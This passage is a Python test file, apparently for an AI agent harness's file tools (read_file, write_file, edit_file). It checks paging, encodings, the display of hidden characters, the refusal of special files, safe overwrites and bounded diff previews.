"""The tools `read_file`, `write_file` and `edit_file` on real files: what is judged, what is done, what is refused."""

from __future__ import annotations

import errno
import os
import re
import resource
import socket
import stat
from collections.abc import Callable, Iterator, Sequence
from itertools import takewhile
from pathlib import Path

import pytest
from file_road import EFFECTS, POLICY, Road, failed, sha256
from hypothesis import given
from hypothesis import strategies as st
from rows import all_rows
from sizes import spread
from work import lines_run

from harness import Limits, ToolError
from harness.actions import Access, Action, JsonValue, PathAccess, Place
from harness.app.policy.judged_call import action_for
from harness.files import diffs
from harness.files.diffs import Diff, compare
from harness.files.judged_files import failure
from harness.files.workspace import Workspace
from harness.gate.approval import deny_all
from harness.gate.gate import Gate
from harness.gate.tool import Tool, ToolOutput
from harness.messages import ResultStatus, ToolCall, ToolResult
from harness.policy.loader import parse_policy
from harness.policy.verdict import evaluate
from harness.record import replace
from harness.tool_kinds import SHIPPED_TOOLS
from harness.tools import builtin_tools
from harness.tools import read_file as pages
from harness.tools.edit_file import EditFileTool
from harness.tools.file_reader import OpenedFile
from harness.tools.read_file import ReadFileRequest, ReadFileTool
from harness.tools.write_file import WriteFileTool
from policies import AUTO, CONFIRM


def new_road(tmp_path: Path) -> Iterator[Road]:
    made = Road(tmp_path)
    yield made
    made.log.close()


road = pytest.fixture(new_road, name="road")


# read_file


@all_rows(
    ("data", "arguments", "content", "truncated"),
    [
        pytest.param(
            b"one\n\ttwo\n",
            {},
            "     1\tone\n     2\t\ttwo\n[lines 1-2 of 2; 9 bytes; UTF-8, LF]",
            False,
            id="a whole file",
        ),
        pytest.param(b"", {}, "[empty file]", False, id="an empty file"),
        pytest.param(b"\n", {}, "     1\t\n[lines 1-1 of 1; 1 bytes; UTF-8, LF]", False, id="a file of one empty line"),
        pytest.param(
            b"a\nb",
            {},
            "     1\ta\n     2\tb\n[lines 1-2 of 2; 3 bytes; UTF-8, LF; no newline at end of file]",
            False,
            id="no newline at the end",
        ),
        pytest.param(
            b"a\nb\nc\nd\n",
            {"offset": 2, "limit": 2},
            "     2\tb\n     3\tc\n[lines 2-3 of 4; 8 bytes; UTF-8, LF; continue with offset=4]",
            True,
            id="a page in the middle",
        ),
        pytest.param(
            b"a\nb\nc\n",
            {"offset": 3},
            "     3\tc\n[lines 3-3 of 3; 6 bytes; UTF-8, LF]",
            False,
            id="the last line",
        ),
        pytest.param(
            b"a\r\nb\r\n", {}, "     1\ta\n     2\tb\n[lines 1-2 of 2; 6 bytes; UTF-8, CRLF]", False, id="CRLF"
        ),
        pytest.param(
            b"a\r\nb\nc\r\n",
            {"offset": 3},
            "     3\tc\n[lines 3-3 of 3; 8 bytes; UTF-8, mixed line endings (CRLF 2, LF 1)]",
            False,
            id="mixed line ends are counted over the whole file",
        ),
        pytest.param(
            b"\xef\xbb\xbfa\n",
            {},
            "     1\ta\n[lines 1-1 of 1; 5 bytes; UTF-8, BOM, LF]",
            False,
            id="a byte-order mark",
        ),
        pytest.param(
            b"a\xffb\xe9\n",
            {},
            "     1\ta\\xffb\\xe9\n[lines 1-1 of 1; 5 bytes; not valid UTF-8: 2 bytes shown as \\xNN, LF]",
            False,
            id="bytes that are no UTF-8",
        ),
        pytest.param(
            "a\x0bb\u2028c\x1b[2Jd\u202ee\n".encode(),
            {},
            "     1\ta\\x0bb\\u2028c\\x1b[2Jd\\u202ee\n"
            "[lines 1-1 of 1; 17 bytes; UTF-8, LF; hidden or odd characters are shown as \\xNN or \\uNNNN]",
            False,
            id="only LF ends a line, and what hides is shown",
        ),
        pytest.param(
            b"x" * 2_000 + b"\n",
            {},
            f"     1\t{'x' * 2_000}\n[lines 1-1 of 1; 2,001 bytes; UTF-8, LF]",
            False,
            id="a line of 2000 characters is whole",
        ),
        pytest.param(
            b"x" * 2_001 + b"\nb\n",
            {},
            f"     1\t{'x' * 2_000}... [line cut: it has 2,002 bytes]\n     2\tb\n[lines 1-2 of 2; 2,004 bytes; UTF-8, LF]",
            True,
            id="a longer line is cut",
        ),
        pytest.param(
            "é".encode() * 9_000,
            {},
            f"     1\t{'é' * 2_000}... [line cut: it has 18,000 bytes]\n"
            "[lines 1-1 of 1; 18,000 bytes; UTF-8; no newline at end of file]",
            True,
            id="a long line is cut between characters",
        ),
    ],
    anew={"road": new_road},
)
def test_a_page_is_read(road: Road, data: bytes, arguments: dict[str, int], content: str, truncated: bool) -> None:
    road.file("a.txt", data)

    result = road.run("read_file", path="a.txt", **arguments)

    assert result == ToolResult(
        call_id="c1", status=ResultStatus.OK, content=content, output_bytes=len(content), truncated=truncated
    )


def test_a_page_ends_after_2000_lines(road: Road) -> None:
    road.file("a.txt", b"x\n" * 5_000)

    lines = road.run("read_file", path="a.txt").content.split("\n")

    assert (len(lines), lines[1999], lines[2000]) == (
        2001,
        "  2000\tx",
        "[lines 1-2000 of 5000; 10,000 bytes; UTF-8, LF; continue with offset=2001]",
    )


def test_pages_by_size_join_to_the_whole_file(tmp_path: Path) -> None:
    road = Road(tmp_path, limits=Limits(result_characters=60_000))
    text = "".join(f"{number} {'é' * 500}\n" for number in range(130))
    road.file("a.txt", text.encode())

    pages = []
    offset: int | None = 1
    while offset is not None:
        page = road.run("read_file", path="a.txt", offset=offset).content
        *rows, last = page.split("\n")
        pages.append((len("\n".join(rows).encode()), rows))
        _, found, rest = last.partition("continue with offset=")
        offset = int(rest.rstrip("]")) if found else None
    road.log.close()

    assert "".join(row.partition("\t")[2] + "\n" for _, rows in pages for row in rows) == text
    assert [size <= 50 * 1024 for size, _ in pages] == [True, True, True]


def test_result_is_limited_by_the_policy(tmp_path: Path) -> None:
    road = Road(tmp_path, limits=Limits(result_characters=1_000))
    road.file("lines", b"0123456789\n" * 500)
    road.file("line", b"x" * 5_000)

    results = [road.run("read_file", path=name) for name in ("lines", "line")]
    road.log.close()

    assert [
        (600 < len(result.content) <= 1_000 or result.content.count("x"), result.truncated) for result in results
    ] == [
        (True, True),
        (350, True),
    ]


def test_a_large_file_is_not_held_in_memory(road: Road) -> None:
    import tracemalloc

    path = road.root / "large"
    with path.open("wb") as file:
        for _ in range(60):
            file.write(b"0123456789abcde\n" * 65_536)
        file.write(b"y" * 30_000_000 + b"\nlast\n")
    tracemalloc.start()
    try:
        result = road.run("read_file", path="large", offset=3_932_160)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert result.content.split("\n") == [
        "3932160\t0123456789abcde",
        f"3932161\t{'y' * 2_000}... [line cut: it has 30,000,001 bytes]",
        "3932162\tlast",
        "[lines 3932160-3932162 of 3932162; 92,914,566 bytes; UTF-8, LF]",
    ]
    assert peak < 8_000_000


def test_lines_far_after_the_page_are_not_counted(road: Road) -> None:
    with (road.root / "large").open("wb") as file:
        file.write(b"first\n")
        file.truncate(80 * 1024 * 1024)
        file.seek(0, os.SEEK_END)
        file.write(b"\n")
    probe = road.root / "large"
    with probe.open("r+b") as file:
        file.seek(6)
        file.write(b"x" * 10_000 + b"\n")  # no NUL in the part that tells text from binary

    content = road.run("read_file", path="large", limit=1).content

    assert content == ("     1\tfirst\n[lines 1-1 of more than 3; 83,886,081 bytes; UTF-8, LF; continue with offset=2]")


def test_a_line_that_is_too_far_away_is_not_looked_for(road: Road, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file with a hole may be larger than any disk."""
    monkeypatch.setattr(pages, "MAX_READ_BYTES", 64 * 1024 * 1024)
    with (road.root / "hole").open("wb") as file:
        file.write(b"text\n" * 4_000)
        file.truncate(1 << 43)

    far = road.run("read_file", path="hole", offset=5_000).content
    last = road.run("read_file", path="hole", offset=4_001).content

    assert far == (
        "Error: offset 5000 lies more than 67,108,864 bytes behind the start of hole; take the part that is wanted with a "
        "command."
    )
    assert last.endswith(
        "... [line cut: it has more than 67,088,864 bytes]\n[lines 4001-4001 of more than 4001; 8,796,093,022,208 bytes; "
        "UTF-8, LF; hidden or odd characters are shown as \\xNN or \\uNNNN; what follows is too far from the start to be "
        "read]"
    )


def test_escape_is_distinguished_from_text_that_looks_like_one(road: Road) -> None:
    road.file("a.txt", b"\x1b\n\\x1b\n\\x1b \x1b\n")

    assert road.run("read_file", path="a.txt").content.endswith(
        "hidden or odd characters are shown as \\xNN or \\uNNNN; such escapes stand as plain text too in line 3]"
    )


def make_fifo(path: Path) -> None:
    os.mkfifo(path)


def make_socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as unix:
        unix.bind(os.path.relpath(path))


def make_folder(path: Path) -> None:
    path.mkdir()
    for name in ("b", "a"):
        (path / name).write_text("")


def make_loop(path: Path) -> None:
    path.symlink_to(path.name)


def make_png(path: Path) -> None:
    path.write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")


def make_nothing(path: Path) -> None:
    (path.parent / "thinge.py").write_text("")


class ChordReader:
    """Reads a format of this test: `CHORD` and the notes."""

    description = "of a chord you get the notes"

    def takes(self, start: bytes) -> bool:
        return start.startswith(b"CHORD\0")

    def read(self, opened: OpenedFile) -> ToolOutput:
        notes = (opened.start + opened.file.read()).split(b"\0")[opened.offset : opened.offset + opened.limit]
        return ToolOutput(content=b" ".join(notes).decode())


def test_a_file_that_is_not_text_is_read_by_the_first_reader_that_takes_it(tmp_path: Path) -> None:
    workspace = Workspace(str(tmp_path))
    plain, tool = (
        tools[1]
        for tools in (builtin_tools(workspace), builtin_tools(workspace, readers=[ChordReader(), ChordReader()]))
    )
    ending = "The call is judged before it runs."
    assert plain.spec.description.endswith(f"are not part of the file. {ending}")
    chord = "of a chord you get the notes"
    assert tool.spec.description == plain.spec.description.replace(ending, f"O{chord[1:]}; {chord}. {ending}")
    (tmp_path / "c").write_bytes(b"CHORD\0a\0c\0e")
    (tmp_path / "t").write_text("CHORD\n")

    def read(of: Tool, path: str, **arguments: JsonValue) -> str:
        asked = ToolCall(id="1", name="read_file", arguments="{}")
        return of.run(of.prepare(asked, {"path": path, **arguments}), EFFECTS).content

    assert read(tool, "c", offset=2, limit=1) == "c"
    assert read(tool, "t").startswith("     1\tCHORD\n")
    with pytest.raises(ToolError, match="Binary file"):
        read(plain, "c")


@all_rows(
    ("make", "message"),
    [
        pytest.param(make_fifo, "Not a regular file (FIFO): thing.", id="a FIFO does not make it wait"),
        pytest.param(make_socket, "Not a regular file (socket): thing.", id="a socket"),
        pytest.param(make_folder, "Path is a directory: thing; it holds: a, b", id="a folder"),
        pytest.param(make_loop, "Too many levels of symbolic links: thing.", id="a link in a circle"),
        pytest.param(make_png, "Binary file (16 bytes, PNG image): thing.", id="a picture"),
        pytest.param(
            lambda path: path.write_bytes(b"\xff\xfea"),
            "Binary file (3 bytes, broken UTF-16 text): thing.",
            id="UTF-16",
        ),
        pytest.param(
            lambda path: path.write_bytes(b"\xff\xfe\0\0a\0\0\0"),
            "Binary file (8 bytes, UTF-32 text): thing.",
            id="UTF-32",
        ),
        pytest.param(lambda path: path.symlink_to("/dev/zero"), "Not a regular file (device): thing.", id="a device"),
        pytest.param(
            make_nothing, "File not found: thing. Did you mean: thinge.py?", id="nothing, with a name like it"
        ),
        pytest.param(lambda path: None, "File not found: thing.", id="nothing at all"),
    ],
    anew={"road": new_road},
)
def test_special_or_binary_file_is_not_read(
    road: Road, monkeypatch: pytest.MonkeyPatch, make: Callable[[Path], object], message: str
) -> None:
    monkeypatch.chdir(road.root)  # a socket's name may be 107 bytes long, and a test's folder longer
    make(road.root / "thing")

    assert road.run("read_file", path="thing") == failed(f"Error: {message}")


@all_rows(
    ("path", "message"),
    [
        pytest.param(
            "src/mian.py", "File not found: src/mian.py. Did you mean: src/main.py, src/mail.py?", id="a name like two"
        ),
        pytest.param("none/no.py", "File not found: none/no.py. Its folder does not exist.", id="a missing folder"),
        pytest.param(
            "src/main.py/x",
            "Not a directory: a part of src/main.py/x is a file.",
            id="a file as a folder",
        ),
        pytest.param("/", "Path is a directory: /; it holds:", id="the root"),
        pytest.param("src/" + "x" * 300, f"File name too long: src/{'x' * 300}.", id="a long name"),
    ],
    anew={"road": new_road},
)
def test_unresolvable_path_is_explained(road: Road, path: str, message: str) -> None:
    for name in ("src/main.py", "src/mail.py", "src/zebra.c"):
        road.file(name, b"")

    result = road.run("read_file", path=path)

    assert (result.status, result.content[: len(message) + 7]) == (ResultStatus.FAILED, f"Error: {message}")


@all_rows(
    ("data", "offset", "message"),
    [
        pytest.param(b"a\nb\n", 3, "offset 3 is past the end (2 lines): a.txt.", id="one line too far"),
        pytest.param(
            b"a\nb", 9, "offset 9 is past the end (2 lines): a.txt.", id="far too far, without a last newline"
        ),
    ],
    anew={"road": new_road},
)
def test_offset_after_the_end_is_an_error(road: Road, data: bytes, offset: int, message: str) -> None:
    road.file("a.txt", data)

    assert road.run("read_file", path="a.txt", offset=offset) == failed(f"Error: {message}")


def test_reading_is_judged_before_anything_is_read(road: Road) -> None:
    call = ToolCall(id="c1", name="read_file", arguments='{"path": "no/such/file", "offset": 3, "limit": 7}')

    action = road.registry.prepare(call)

    path = PathAccess(
        written="no/such/file",
        real=str(road.root / "no/such/file"),
        names=("no/such/file",),
        access=Access.READ,
        place=Place.INSIDE,
    )
    assert action == Action(
        call=call,
        tool="read_file",
        arguments={"path": "no/such/file", "offset": 3, "limit": 7},
        facets=(path,),
        summary="no/such/file from line 3",
        preview="read no/such/file from line 3, 7 lines at most",
        request=ReadFileRequest(path=path, offset=3, limit=7),
        described=SHIPPED_TOOLS["read_file"],
    )


# write_file


def test_a_new_file_is_made_with_its_folders(road: Road) -> None:
    old = os.umask(0o027)
    try:
        result = road.run("write_file", path="a/b/c.py", content="one\ntwo")
    finally:
        os.umask(old)

    content = "Created a/b/c.py (2 lines, 7 bytes)"
    assert result == ToolResult(
        call_id="c1",
        status=ResultStatus.OK,
        content=content,
        output_bytes=len(content),
        changed_path=str(road.root / "a/b/c.py"),
        after_sha256=sha256(b"one\ntwo"),
    )
    assert road.tree() == {"a/b/c.py": b"one\ntwo"}
    modes = [stat.S_IMODE((road.root / name).stat().st_mode) for name in ("a", "a/b", "a/b/c.py")]
    assert modes == [0o750, 0o750, 0o640]


def test_an_old_file_is_replaced_and_keeps_its_mode(road: Road) -> None:
    path = road.file("run.sh", b"one\ntwo\nthree\n")
    path.chmod(0o6755)
    inode = path.stat().st_ino

    result = road.run("write_file", path="run.sh", content="one\n2\nthree\nfour\n")

    content = "Overwrote run.sh (+2 -1 lines)"
    assert result == ToolResult(
        call_id="c1",
        status=ResultStatus.OK,
        content=content,
        output_bytes=len(content),
        changed_path=str(path),
        before_sha256=sha256(b"one\ntwo\nthree\n"),
        after_sha256=sha256(b"one\n2\nthree\nfour\n"),
    )
    assert road.tree() == {"run.sh": b"one\n2\nthree\nfour\n"}
    assert stat.S_IMODE(path.stat().st_mode) == 0o755  # set-id bits are not kept for new content
    assert path.stat().st_ino != inode


def test_equal_content_is_not_written(road: Road) -> None:
    path = road.file("a.txt", b"same\n")
    path.chmod(0o444)
    before = path.stat()

    action = road.prepare("write_file", path="a.txt", content="same\n")
    result = road.run("write_file", path="a.txt", content="same\n")

    assert action.preview == "a.txt already has this content; no change"
    assert result == ToolResult(call_id="c1", status=ResultStatus.OK, content="Unchanged: a.txt", output_bytes=16)
    after = path.stat()
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)


@all_rows(
    ("content", "said"),
    [
        ("", "Created a.txt (0 lines, 0 bytes)"),
        ("x", "Created a.txt (1 line, 1 bytes)"),
        ("é\r\n\r\n", "Created a.txt (2 lines, 6 bytes)"),
        ("\ufeffx\u2028y\x0c\n", "Created a.txt (1 line, 10 bytes)"),
    ],
    anew={"road": new_road},
)
def test_content_is_written_byte_for_byte(road: Road, content: str, said: str) -> None:
    assert road.run("write_file", path="a.txt", content=content).content == said
    assert road.tree() == {"a.txt": content.encode()}


def test_the_target_of_a_link_is_written_and_the_link_stays(road: Road) -> None:
    target = road.file("real.txt", b"old\n")
    (road.root / "link").symlink_to("real.txt")

    action = road.prepare("write_file", path="link", content="new\n")
    result = road.run("write_file", path="link", content="new\n")

    assert action.preview == "overwrite link -> real.txt (+1 -1 lines)\n@@ -1 +1 @@\n-old\n+new"
    assert result.changed_path == str(target)
    assert ((road.root / "link").readlink(), target.read_bytes()) == (Path("real.txt"), b"new\n")


def test_a_path_that_leads_out_is_judged_as_outside(road: Road, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (road.root / "link").symlink_to(tmp_path / "elsewhere")

    facets = [
        road.prepare(tool, path="link/x", **more).facets
        for tool, more in (
            ("read_file", {}),
            ("write_file", {"content": ""}),
            ("edit_file", {"old_string": "a", "new_string": "b"}),
        )
    ]

    outside = str(tmp_path / "elsewhere" / "x")
    read = PathAccess(
        written="link/x", real=outside, names=("link/x", outside), access=Access.READ, place=Place.OUTSIDE
    )
    write = replace(read, access=Access.WRITE)
    # The same whether an edit applies or not; of a file that is to be made there is nothing to read.
    assert facets == [(read,), (write, replace(read, new=True)), (write, read)]


def test_a_file_with_two_names_is_replaced_under_one(road: Road) -> None:
    first = road.file("first", b"old\n")
    os.link(first, road.root / "second")

    result = road.run("write_file", path="first", content="new\n")

    assert result.content == (
        "Overwrote first (+1 -1 lines)\n[note: the file had 2 hard links; only this path was changed]"
    )
    assert road.tree() == {"first": b"new\n", "second": b"old\n"}


def test_extended_attributes_are_kept(road: Road) -> None:
    path = road.file("a.txt", b"old\n")
    try:
        os.setxattr(path, "user.note", b"kept")
    except OSError as error:
        pytest.skip(f"the file system has no user attributes: {error}")

    road.run("write_file", path="a.txt", content="new\n")

    assert os.getxattr(path, "user.note") == b"kept"


@pytest.mark.parametrize(
    ("make", "message"),
    [
        pytest.param(make_fifo, "Not a regular file (FIFO): thing.", id="a FIFO"),
        pytest.param(make_folder, "Path is a directory: thing.", id="a folder"),
        pytest.param(make_loop, "Too many levels of symbolic links: thing.", id="a link in a circle"),
        pytest.param(lambda path: path.symlink_to("/dev/null"), "Not a regular file (device): thing.", id="a device"),
        pytest.param(
            lambda path: (path.write_bytes(b"old\n"), path.chmod(0o444)),
            "Permission denied: thing is read-only (mode 0444). The file was not changed.",
            id="a file without leave to write",
        ),
        pytest.param(
            lambda path: path.write_bytes(b"x" * (10 * 1024 * 1024 + 1)),
            "File too large: thing has 10,485,761 bytes; at most 10,485,760 are taken.",
            id="a file of more than 10 MiB",
        ),
    ],
)
@pytest.mark.parametrize(
    ("tool", "arguments"),
    [("write_file", {"content": "new\n"}), ("edit_file", {"old_string": "old", "new_string": "new"})],
    ids=["write", "edit"],
)
def test_special_or_binary_file_is_not_written(
    road: Road, tool: str, arguments: dict[str, str], make: Callable[[Path], object], message: str
) -> None:
    make(road.root / "thing")
    if (road.root / "thing").is_file():
        road.baselines.saw(str(road.root / "thing"), (road.root / "thing").read_bytes())
    before = road.tree()

    result = road.run(tool, path="thing", **arguments)

    assert result == failed(f"Error: {message}")
    assert road.tree() == before


@all_rows(
    ("path", "message"),
    [
        pytest.param(
            "file/x",
            "Not a directory: a part of file/x is a file.",
            id="below a file",
        ),
        pytest.param("new/", "Path is that of a directory: new/. No file was written.", id="the name of a folder"),
        pytest.param("file/.", "Not a directory: file/. is a file.", id="a file named like a folder"),
        pytest.param("new/" + "x" * 256, f"File name too long: new/{'x' * 256}.", id="a long name in a new folder"),
    ],
    anew={"road": new_road},
)
def test_failed_creation_leaves_no_files(road: Road, path: str, message: str) -> None:
    road.file("file", b"")

    result = road.run("write_file", path=path, content="x")

    assert result == failed(f"Error: {message}")
    assert sorted(os.listdir(road.root)) == ["file"]


def test_a_write_that_fails_half_way_leaves_the_old_file(road: Road) -> None:
    road.file("a.txt", b"old\n")
    tool = WriteFileTool(road.workspace, baselines=road.baselines)
    arguments = {"path": "a.txt", "content": "x" * 100_000}
    action = tool.prepare(ToolCall(id="c1", name="write_file", arguments=""), arguments)
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, limits[1]))
    try:
        with pytest.raises(ToolError) as caught:
            tool.run(action, EFFECTS)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)

    assert str(caught.value) == "File too large for the process limit; a.txt is unchanged."
    assert road.tree() == {"a.txt": b"old\n"}


def test_too_much_content_is_refused(road: Road) -> None:
    with pytest.raises(ToolError, match="The content is 10,485,762 bytes long; at most 10,485,760 are taken"):
        road.prepare("write_file", path="a.txt", content="é" * (5 * 1024 * 1024 + 1))


def test_a_preview_is_a_bounded_diff_without_control_characters(road: Road) -> None:
    road.file("a.txt", b"".join(b"%d\n" % number for number in range(5000)))

    preview = road.prepare("write_file", path="a.txt", content="\x1b[2J\n" + "new\n" * 5000).preview.split("\n")

    assert preview[:3] == ["overwrite a.txt (+5001 -5000 lines)", "@@ -1,5000 +1,5001 @@", "+\\x1b[2J"]
    assert preview[-2:] == ["+new", "[... 6,002 more lines of the diff ...]"]
    assert len(preview) == 4002


def test_a_preview_of_a_binary_file_does_not_show_it(road: Road) -> None:
    road.file("a.bin", b"\0\1\2")

    preview = road.prepare("write_file", path="a.bin", content="text\n").preview

    assert preview == "overwrite a.bin, a binary file of 3 bytes that is not shown\n@@ -0,0 +1 @@\n+text"


NO_END = "\\ No newline at end of file"
DOUBLED = "\\ Backslashes of the line above are doubled, to tell them from those that stand for hidden characters"
WORDS = st.lists(st.sampled_from([b"a\n", b"b\n", b"c\n", b"\n", b"unique\n", b"other\n"]), max_size=40).map(b"".join)


def applied(old: bytes, diff: Sequence[str]) -> bytes:
    """Return what a unified diff makes of `old`, whose lines it must name as they are."""
    before = old.decode().split("\n")[:-1]
    after: list[str] = []
    position = 0
    for line in diff:
        if line.startswith("@@"):
            start, _, length = line.split(" ")[1][1:].partition(",")
            first = int(start) - (length != "0")
            after += before[position:first]
            position = first
            continue
        if line[0] != "+":
            assert before[position] == line[1:]
            position += 1
        if line[0] != "-":
            after.append(line[1:])
    return "".join(f"{line}\n" for line in (*after, *before[position:])).encode()


@given(old=WORDS, new=WORDS)
def test_a_diff_leads_from_the_old_content_to_the_new(old: bytes, new: bytes) -> None:
    diff = compare(old, new)

    assert applied(old, diff.lines) == new
    counts = [sum(line.startswith(sign) for line in diff.lines) for sign in "+-"]
    assert (counts, diff.more) == ([diff.added, diff.removed], 0)
    assert (diff.lines == ()) is (old == new)


def test_diff_of_two_long_contents_shows_the_few_changes() -> None:
    old = [b"%d\n" % number for number in range(50_000)]
    new = [*old[:10], b"in\n", *old[10:40_000], *old[40_001:]]

    diff = compare(b"".join(old), b"".join(new))

    assert diff.text() == (
        "@@ -8,6 +8,7 @@\n 7\n 8\n 9\n+in\n 10\n 11\n 12\n"
        "@@ -39998,7 +39999,6 @@\n 39997\n 39998\n 39999\n-40000\n 40001\n 40002\n 40003"
    )


def test_diff_of_enormous_contents_shows_the_beginning_of_the_new() -> None:
    diff = compare(b"x\n" * 300_000, b"y\n")

    assert diff == Diff(
        lines=("[too long to compare: 300,000 lines before, 1 after; the new content begins:]", "+y"),
        more=300_000,
        added=1,
        removed=300_000,
    )
    assert not diff.is_whole  # nobody can say yes to what goes without seeing it


LONG = [
    pytest.param(lambda: (b"\xff" * 10_000_000, b"\xfe" * 10_000_000), id="one line that is no UTF-8"),
    pytest.param(
        lambda: (
            b"".join(b"%d\n" % n + b"a\nb\n" * 99 for n in range(900)),
            b"".join(b"%d\n" % n + b"a\na\nb\nb\n" * 50 for n in range(900)),
        ),
        id="many gaps between lines that hold",
    ),
    pytest.param(
        lambda: (b"".join(b"%d\nx\n" % n for n in range(95_000)), b"".join(b"%d\ny\n" % n for n in range(95_000))),
        id="every second line",
    ),
    pytest.param(lambda: (b"", (b"\x1b\xc3\xa9" * 830 + b"\n") * 4_000), id="characters that are escaped"),
]


@all_rows("made", spread("BOUNDS", LONG, 2))
def test_a_diff_takes_bounded_time_and_room(made: Callable[[], tuple[bytes, bytes]]) -> None:
    """In lines of Python; bench/growth.py times what the calls in them take."""
    old, new = made()
    found: list[Diff] = []

    lines = lines_run(lambda: found.append(compare(old, new)))

    (diff,) = found
    assert lines < 40_000_000  # about a second; twice as many as any of them needs
    assert sum(map(len, diff.lines)) < diffs.MAX_CHARACTERS + 10 * diffs.MAX_LINE_CHARACTERS
    assert not diff.is_whole


@all_rows(
    ("old", "new", "lines"),
    [
        pytest.param(b"", b"#!/bin/sh\r\nx\r\n", ("+#!/bin/sh\\x0d", "+x\\x0d"), id="a new file"),
        pytest.param(b"x", b"x\r\ny\r\n", ("-x", NO_END, "+x\\x0d", "+y\\x0d"), id="no line end before"),
        pytest.param(b"x\ny\n", b"x\r\ny\r\n", ("-x", "-y", "+x\\x0d", "+y\\x0d"), id="LF before"),
        pytest.param(b"x\r\n", b"y\r\n", ("-x", "+y"), id="CRLF before and after"),
        pytest.param(
            b"a\n", b"\\x1b \x1b\n", ("-a", "+\\\\x1b \\x1b", DOUBLED), id="an escape and what looks like one"
        ),
        pytest.param(b"a\n", b"\\\x1b\n", ("-a", "+\\\\\\x1b", DOUBLED), id="a backslash before an escape"),
        pytest.param(b"a\n", b"\\x0d\r\n", ("-a", "+\\\\x0d\\x0d", DOUBLED), id="before a line end"),
        pytest.param(b"a\n", b"\\x1b \\\\x1b\n", ("-a", "+\\x1b \\\\x1b"), id="only what looks like one"),
        pytest.param(b"a\n", b"C:\\new\r\n", ("-a", "+C:\\new\\x0d"), id="a backslash that cannot be taken for one"),
    ],
)
def test_diff_distinguishes_hidden_characters_from_lookalikes(old: bytes, new: bytes, lines: Sequence[str]) -> None:
    assert compare(old, new).lines[1:] == lines


@all_rows(
    ("old", "new", "whole"),
    [
        pytest.param("<h1>a", "<h1>b", True, id="beside it"),
        pytest.param("<img>", "<img/>", True, id="in it"),
        pytest.param("<img>", "y" * 20_000, True, id="a long one in it"),
        pytest.param("<img>", "y" * 100_000, False, id="one that nobody reads"),
    ],
    anew={"road": new_road},
)
def test_a_long_line_does_not_keep_a_change_from_being_approved(road: Road, old: str, new: str, whole: bool) -> None:
    road.file("a.html", b"<h1>a</h1>\n<img>" + b"x" * 30_000 + b"\n")

    assert road.prepare("edit_file", path="a.html", old_string=old, new_string=new).shown_whole is whole


ONE_LINE = "var x=1;" * 20_000
NEAR = "var x=1;" * 18


def left_out(count: int) -> str:
    return f"\\ {count:,} unchanged characters of the line above are left out, where … encloses a number"


def restored(diff: Sequence[str], old: str) -> tuple[str, str]:
    """Return both contents as a diff tells them, CR LF apart. `old` gives what is left out, the same for both."""
    lines, end = old.replace("\r\n", "\n").split("\n"), "\r\n" if "\r\n" in old else "\n"
    before: list[str] = []
    after: list[str] = []
    stayed: list[str] = []
    for line, notes in with_notes(diff):
        if line[0] == "@":
            start, _, length = line.split(" ")[1][1:].partition(",")
            same = lines[len(before) : int(start) - (length != "0")]
            before, after = before + same, after + same
            continue
        shown = (
            re.split("… ([0-9,]+) characters …", line[1:]) if any("left out" in note for note in notes) else [line[1:]]
        )
        real = lines[len(before)] if line[0] != "+" else ""
        text = ""
        for index, piece in enumerate(shown):
            if index % 2 == 0:
                text += re.sub(r"\\(\\|x1b|u2026)", lambda match: ESCAPED[match[1]], piece)
            elif line[0] == "+":
                text += stayed.pop(0)
            else:
                stayed += [real[len(text) : len(text) + int(piece.replace(",", ""))]] * (line[0] == "-")
                text += real[len(text) : len(text) + int(piece.replace(",", ""))]
        before += [text] * (line[0] != "+")
        after += [text] * (line[0] != "-")
    rest = lines[len(before) :]
    return end.join((*before, *rest)), end.join((*after, *rest))


ESCAPED = {"\\": "\\", "x1b": "\x1b", "u2026": "…"}


def with_notes(diff: Sequence[str]) -> Iterator[tuple[str, list[str]]]:
    """Yield the lines of a diff, with the lines about each."""
    for index, line in enumerate(diff):
        if line[0] != "\\":
            yield line, list(takewhile(lambda note: note[0] == "\\", diff[index + 1 :]))


@all_rows(("old", "new"), [
    pytest.param(f"{ONE_LINE}var target=1;", f"{ONE_LINE}var target=2;", id="the last word"),
    pytest.param(f"var a=1;{ONE_LINE}\n", f"{ONE_LINE}\n", id="the first word goes"),
    pytest.param(f"{ONE_LINE}b{ONE_LINE}c{ONE_LINE}\n", f"{ONE_LINE}dd{ONE_LINE}eee{ONE_LINE}\n", id="two far apart"),
    pytest.param(f"{ONE_LINE}{ONE_LINE}\n", f"{ONE_LINE}\n{ONE_LINE}\n", id="it is parted"),
    pytest.param(f"{ONE_LINE}\nb\n{ONE_LINE}\n", f"{ONE_LINE}{ONE_LINE}\n", id="two are joined"),
    pytest.param(f"{ONE_LINE}b\r\n", f"{ONE_LINE}c\r\n", id="CR LF"),
    pytest.param(f"{ONE_LINE}{'b' * 9_000}{ONE_LINE}\n", f"{ONE_LINE}{'c d' * 9_000}{ONE_LINE}\n", id="27 KB"),
    pytest.param(f"{ONE_LINE}… 9 characters …b\n", f"{ONE_LINE}… 9 characters …c\n", id="what looks like a count"),
    pytest.param("é" * 9_000 + "\x1b\\x1b\n", "é" * 9_000 + "\x1b\\x1b!\n", id="an escape and what looks like one"),
])  # fmt: skip
def test_a_diff_of_long_lines_shows_every_changed_character(old: str, new: str) -> None:
    diff = compare(old.encode(), new.encode())

    assert diff.is_whole
    assert sum(map(len, diff.lines)) < 40_000
    assert restored(diff.lines, old) == (old, new)


def test_characters_left_out_of_a_long_line_are_counted() -> None:
    diff = compare(f"{ONE_LINE}a… 9\nb\n".encode(), f"{ONE_LINE}A… 9\nb\n".encode())

    assert diff.lines == (
        "@@ -1,2 +1,2 @@",
        f"-… 159,848 characters …var x=1;{NEAR}a\\u2026 9",
        left_out(159_848),
        f"+… 159,848 characters …var x=1;{NEAR}A\\u2026 9",
        left_out(159_848),
        " b",
    )


@pytest.mark.parametrize("beside", ["", ";", NEAR[:100], NEAR, f"{NEAR}var x=1;"])
def test_diff_of_long_lines_never_splits_a_word(beside: str) -> None:
